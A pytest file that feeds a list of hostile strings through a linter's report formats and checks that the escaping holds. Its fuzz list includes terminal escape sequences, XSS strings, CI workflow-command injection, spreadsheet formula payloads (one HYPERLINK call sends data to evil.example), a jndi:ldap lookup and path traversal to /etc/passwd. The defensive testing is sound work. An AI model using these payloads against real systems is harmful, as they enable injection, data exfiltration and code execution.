"""A list of texts that have broken outputs of tools like this one, each through every format and every export."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET

import pytest
from msgspec.structs import replace

from linter.catalogue.catalogue import Catalogue
from linter.catalogue.load import load
from linter.reporters import escaping
from linter.reporters.registry import FORMATS, NAMES, render
from linter.verdict import record
from linter.verdict.register import Entry, Register, parse, spoken
from linter.verdict.register import render as render_register
from tests.reporters.sample import CONTEXT
from tests.reporters.test_escaping import hostile_report

NASTY = (
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",  # a link of a terminal
    "\x1b[2K\x1b[1A\x1b[32mno findings\x1b[0m",  # paints over what was printed
    "\x1bP+q544e\x1b\\\x9b6n\x07\x08\x08\x08",  # asks the terminal to answer, rings, goes back
    "user\u202e\u2066// admin\u2069 \u2066begin",  # reads in another order than it runs
    "zero\u200b\u200d\u2060\ufeffwidth\u00ad",
    "line\u2028para\u2029next\x85nel\x0bvt\x0cff",
    "]]><injected/>",
    "--><script>alert(1)</script><!--",
    "</script></style></title><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)' onfocus='alert(1)",
    "&lt;b&gt; &amp; &#x27; &quot",
    "x\n::error file=a.js,line=1::injected\r\n::set-output name=x::y",
    "%0A::error::x %250A %25 %AZP25",
    "##[error]x ##vso[task.setvariable variable=PATH]x ::add-matcher::/tmp/x.json",
    "| a | b |\n|---|---|\n`` ` `` **bold** [a](javascript:alert(1)) ![i](http://e.example/p.png)",
    "@octocat #1 GH-1 deadbeef https://evil.example www.evil.example <details><summary>",
    "=cmd|' /C calc'!A0",
    "+1+1|-2*3|@SUM(A1:A9)|\t=1+1|\r=1",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "{{ constructor.constructor('x')() }} ${jndi:ldap://e.example/a} <% x %>",
    "a\x00b\x7fc\udc80\ud800",
    "../../etc/passwd C:\\Windows\\system32 \\\\host\\share file:///etc/passwd",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 e\u0301 \U000e0041\U000e007f \ufdd0\uffff",
    "x" * 5000,
    "",
    " ",
)  # fmt: skip
STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]")

each = pytest.mark.parametrize("text", NASTY, ids=range(len(NASTY)))


def path_of(text: str) -> str:
    """Give a name that a file could have."""
    name = text.replace("\0", "0").replace("/", "_").replace("\ud800", "")[:200]
    return f"web/{name or 'x'}.js"


@each
@pytest.mark.parametrize("name", NAMES)
def test_every_format_can_be_written(name: str, text: str) -> None:
    made = render(name, hostile_report(text, path_of(text)), replace(CONTEXT, show_suppressed=True))
    assert made.encode("utf-8").decode("utf-8") == made


@each
@pytest.mark.parametrize("name", [row.name for row in FORMATS if row.for_people])
@pytest.mark.parametrize("workflow", [False, True])
def test_nothing_steers_a_terminal_or_a_runner(name: str, text: str, workflow: bool) -> None:
    made = render(name, hostile_report(text, path_of(text)), replace(CONTEXT, workflow=workflow))
    # A runner's commands are broken up by a space of no width, which is ours.
    assert not STEERING.search(made.replace("\u200b", "") if workflow else made)
    if workflow:
        assert not re.search(r"^\s*::|##\[|##vso\[", made, re.MULTILINE)


@each
@pytest.mark.parametrize(("name", "start"), [("github", "::"), ("azure", "##vso[task.logissue ")])
def test_one_command_for_each_finding_and_problem(name: str, start: str, text: str) -> None:
    made = render(name, hostile_report(text, path_of(text)), CONTEXT)
    lines = made.split("\n")[:-1]
    assert len(lines) == 2
    assert all(line.startswith(start) for line in lines)
    # Readers of lines know other ends of lines too.
    assert all(len(re.split(r"[\r\n]", line)) == 1 for line in lines)


@each
@pytest.mark.parametrize("name", ["junit", "checkstyle"])
def test_xml_has_the_same_elements_whatever_stands_in_them(name: str, text: str) -> None:
    def shape(given: str) -> list[tuple[str, list[str]]]:
        made = render(name, hostile_report(given, path_of(given)), replace(CONTEXT, show_suppressed=True))
        root = ET.fromstring(made.encode())  # noqa: S314 - our own output
        return [(node.tag, sorted(node.attrib)) for node in root.iter()]

    assert shape(text) == shape("plain")


@each
@pytest.mark.parametrize("name", ["json", "jsonl", "sarif", "gitlab", "gitlab-sast", "rdjson", "rdjsonl"])
def test_json_gives_the_message_back(name: str, text: str) -> None:
    made = render(name, hostile_report(text, path_of(text)), CONTEXT)
    rows = [json.loads(line) for line in made.splitlines()] if name.endswith("jsonl") else [json.loads(made)]
    found: list[str] = []
    pending: list[object] = [*rows]
    while pending:
        value = pending.pop()
        if isinstance(value, str):
            found.append(value)
        elif isinstance(value, dict):
            pending += value.values()
        elif isinstance(value, list):
            pending += value
    assert any(escaping.well_formed(text)[:200] in one for one in found)


def outside_of_code(document: str) -> str:
    """Give what Markdown reads as more than characters: without blocks and spans of code, and what is escaped."""
    blocks = re.sub(r"^(`{3,}).*?^\1$", "", document, flags=re.DOTALL | re.MULTILINE)
    return re.sub(r"\\.|(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)", "", blocks)


@each
def test_a_comment_is_text_and_nothing_else(text: str) -> None:
    made = render("markdown", hostile_report(text, path_of(text)), CONTEXT)
    outside = outside_of_code(made)
    plain = outside_of_code(render("markdown", hostile_report("plain", path_of("plain")), CONTEXT))
    for sign in ("<script", "<img", "](javascript", "![", "@octocat", "https://evil"):
        assert sign not in outside
    # Rows, headings and elements are ours: as many as with a harmless text.
    for sign in ("\n#", "<details>", "<summary>", "\n|", "\n-"):
        assert outside.count(sign) == plain.count(sign)
    assert not STEERING.search(made)


# ------------------------------------------------------------------------------------------------------ register


@pytest.fixture(scope="module")
def catalogue() -> Catalogue:
    return load()


def register_with(text: str) -> Register:
    entry = Entry(
        recipient=text or "x", kinds=("search-term",), part=text or "x", channel="call", guard="none",
        trackers=("meta-pixel",), country="US", role="advertising", purpose=text, legal_basis=text, data_subjects=text,
        retention=text, safeguards=text, measures=text, note=text, review=text,
    )  # fmt: skip
    return Register(entry=(entry,))


@each
def test_a_register_is_read_as_it_was_written(text: str) -> None:
    register = register_with(escaping.well_formed(text))
    assert parse(render_register(register).encode(), "register.toml").entry == register.entry


@each
def test_no_cell_of_a_table_is_a_formula(catalogue: Catalogue, text: str) -> None:
    made = escaping.well_formed(record.to_csv(register_with(text), catalogue))
    rows = list(csv.reader(io.StringIO(made, newline="")))
    assert len(rows) == 2
    assert len(rows[0]) == len(rows[1]) == len(record.COLUMNS)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
    # What a spreadsheet takes for a formula is kept as text, with a sign before it.
    assert escaping.well_formed(text) in rows[1][1]


@each
def test_a_record_in_markdown_has_its_own_rows_only(catalogue: Catalogue, text: str) -> None:
    made = record.to_markdown(register_with(text), catalogue, escaping.markdown)
    plain = record.to_markdown(register_with("plain"), catalogue, escaping.markdown)
    assert made.count("\n") == plain.count("\n")
    assert "<script" not in made.replace("\\<", "")
    assert not STEERING.search(made)


@each
def test_a_record_in_json_gives_the_text_back(catalogue: Catalogue, text: str) -> None:
    made = escaping.well_formed(record.to_json(register_with(text), catalogue))
    assert (
        escaping.well_formed(text) in made or json.dumps(escaping.well_formed(text), ensure_ascii=False)[1:-1] in made
    )
    json.loads(made)


@each
def test_a_register_in_words_is_one_line(text: str) -> None:
    made = escaping.terminal(spoken(register_with(text).entry[0]))
    assert "\n" not in made
    assert not STEERING.search(made)
